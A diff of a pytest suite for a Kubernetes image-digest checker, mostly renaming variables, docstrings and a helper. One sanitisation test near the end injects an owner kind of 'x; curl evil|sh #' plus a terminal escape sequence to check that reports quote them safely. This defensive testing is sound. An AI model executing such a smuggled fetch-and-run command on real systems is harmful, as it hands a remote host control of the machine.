@@ -212,10 +212,10 @@ class TestCaptured:
         (after,) = plan(state["workloads"], state["pods"], CLUSTER["moved"], workloads=["deployment/openclaw"])
         assert (action(after), verdicts(after)) == ("none", ["unknown", "current", "current"])
         found = info(state["workloads"], state["pods"], CLUSTER["moved"], workloads=["deployment/openclaw"])
-        doubt, of_volume = found["unverified"]
+        text, of_volume = found["unverified"]
         assert (found["ok"], found["problems"]) == (True, [])
         assert (found["workloads"][0]["status"], "image volume workspace" in of_volume) == ("unknown", True)
-        assert doubt == (
+        assert text == (
             f"deployment/openclaw: init container sidecar was started when {REGISTRY}/openclaw/tool:latest meant"
             f" {after['images'][0]['expected'][:19]}, as it does now; it reports {OLD_INDEX[:19]}, which the registry"
             " does not have, so that digests prove nothing"
@@ -658,10 +658,10 @@ class TestBlocked:
 
 
 class TestSelection:
-    """Which workloads are judged."""
+    """Which workloads are assessed."""
 
     @pytest.mark.parametrize("text", ["ghcr.io/a/b:latest", "nginx:latest", f"{REGISTRY}/openclaw/UPPER:1", ""])
-    def test_an_image_of_another_registry_is_not_judged(self, text: str) -> None:
+    def test_an_image_of_another_registry_is_not_assessed(self, text: str) -> None:
         assert plan([workload(container(text))], [pod(f"{APP}@{OTHER}")]) == []
 
     def test_an_image_without_a_tag_is_the_latest(self) -> None:
@@ -678,7 +678,7 @@ class TestSelection:
             plan([workload()], workloads=["deployment/app", "deployment/none"], allow_empty=allow_empty)
 
     def test_a_thousand_pods(self) -> None:
-        """Of a hundred workloads with five images, each judged alone."""
+        """Of a hundred workloads with five images, each assessed alone."""
         workloads, pods = [], []
         for number in range(100):
             name = f"w{number}"
@@ -1139,7 +1139,7 @@ class TestUnreadable:
         ]
 
     def test_one_kind(self) -> None:
-        """The others are judged."""
+        """The others are assessed."""
         own = workload()
         cluster = FakeCluster(own, *with_templates([own], [pod(f"{APP}@{OTHER}")]), refused=["cronjobs"])
         found = info([], cluster=cluster)
@@ -1199,8 +1199,8 @@ class TestCronJob:
         assert found["unverified"] == [f"cronjob/app: container app: its pods start later, and pull {APP}:latest then"]
 
     def test_an_image_of_the_node(self) -> None:
-        (doubt,) = info([cronjob(container(policy="IfNotPresent"))])["unverified"]
-        assert doubt.endswith("its pull policy IfNotPresent takes the image of the node")
+        (text,) = info([cronjob(container(policy="IfNotPresent"))])["unverified"]
+        assert text.endswith("its pull policy IfNotPresent takes the image of the node")
 
     def test_an_image_that_is_missing(self) -> None:
         entry = one(cronjob(), images=[])
@@ -1232,7 +1232,7 @@ def action_of_cronjob(entry: Dict) -> t.Any:
     return template["spec"]["containers"]
 
 
-def stray(running: str = f"{APP}@{OTHER}", kind: str | None = None, name: str = "owner", **more: t.Any) -> Dict:
+def other_pod(running: str = f"{APP}@{OTHER}", kind: str | None = None, name: str = "owner", **more: t.Any) -> Dict:
     """A pod of no Deployment, StatefulSet or DaemonSet, and of an owner if *kind* is given."""
     found = pod(running, **more)
     found["metadata"]["ownerReferences"] = [{"kind": kind, "name": name, "controller": True}] if kind else []
@@ -1240,7 +1240,7 @@ def stray(running: str = f"{APP}@{OTHER}", kind: str | None = None, name: str = 
     return found
 
 
-class TestStrays:
+class TestOtherPods:
     """Pods of other owners."""
 
     @pytest.mark.parametrize(
@@ -1254,7 +1254,7 @@ class TestStrays:
     )
     def test_stale_ones_are_reported_with_their_owner(self, kind: str | None, owner: str, is_problem: bool) -> None:
         """A Job ends by itself."""
-        found = info([workload()], [pod(f"{APP}@{INDEX}"), stray(kind=kind), stray(kind=kind, name="owner")])
+        found = info([workload()], [pod(f"{APP}@{INDEX}"), other_pod(kind=kind), other_pod(kind=kind, name="owner")])
         sentences = found["problems"] if is_problem else found["unverified"]
         assert found["ok"] is not is_problem
         (text,) = sentences
@@ -1263,10 +1263,10 @@ class TestStrays:
     @pytest.mark.parametrize(
         "other",
         [
-            pytest.param(stray(f"{APP}@{INDEX}"), id="current"),
-            pytest.param(stray(f"ghcr.io/a/b@{INDEX}"), id="by another name"),
-            pytest.param(stray(phase="Succeeded"), id="over"),
-            pytest.param(stray(ending=True), id="ending"),
+            pytest.param(other_pod(f"{APP}@{INDEX}"), id="current"),
+            pytest.param(other_pod(f"ghcr.io/a/b@{INDEX}"), id="by another name"),
+            pytest.param(other_pod(phase="Succeeded"), id="over"),
+            pytest.param(other_pod(ending=True), id="ending"),
         ],
     )
     def test_others_are_not(self, other: Dict) -> None:
@@ -1275,20 +1275,20 @@ class TestStrays:
 
     def test_another_name_of_the_same_image_is_resolved(self) -> None:
         same = image(f"{APP}@{OTHER}", OTHER, amd64=AMD_CONFIG, arm64=ARM_CONFIG)
-        assert info([workload()], [stray()], [image(), same])["ok"] is True
+        assert info([workload()], [other_pod()], [image(), same])["ok"] is True
 
     def test_named_workloads_have_none(self) -> None:
-        assert info([workload()], [stray()], workloads=["deployment/app"])["ok"] is True
+        assert info([workload()], [other_pod()], workloads=["deployment/app"])["ok"] is True
 
     @pytest.mark.parametrize(("labels", "ok"), [({"app": "x"}, False), ({"app": "y"}, True)])
     def test_labels_select_them(self, labels: dict[str, str], ok: bool) -> None:
-        other = stray()
+        other = other_pod()
         other["metadata"]["labels"] = labels
         own = workload(metadata={"labels": {"app": "x"}})
         assert info([own], [other], label_selectors=["app=x"])["ok"] is ok
 
     def test_a_hostile_owner_is_quoted(self) -> None:
-        (text,) = info([workload()], [stray(kind="x; curl evil|sh #", name="\x1b[2J")])["problems"]
+        (text,) = info([workload()], [other_pod(kind="x; curl evil|sh #", name="\x1b[2J")])["problems"]
         assert "the owner 'x; curl evil|sh #' '\\x1b[2J'" in text
         assert text.isprintable()
 
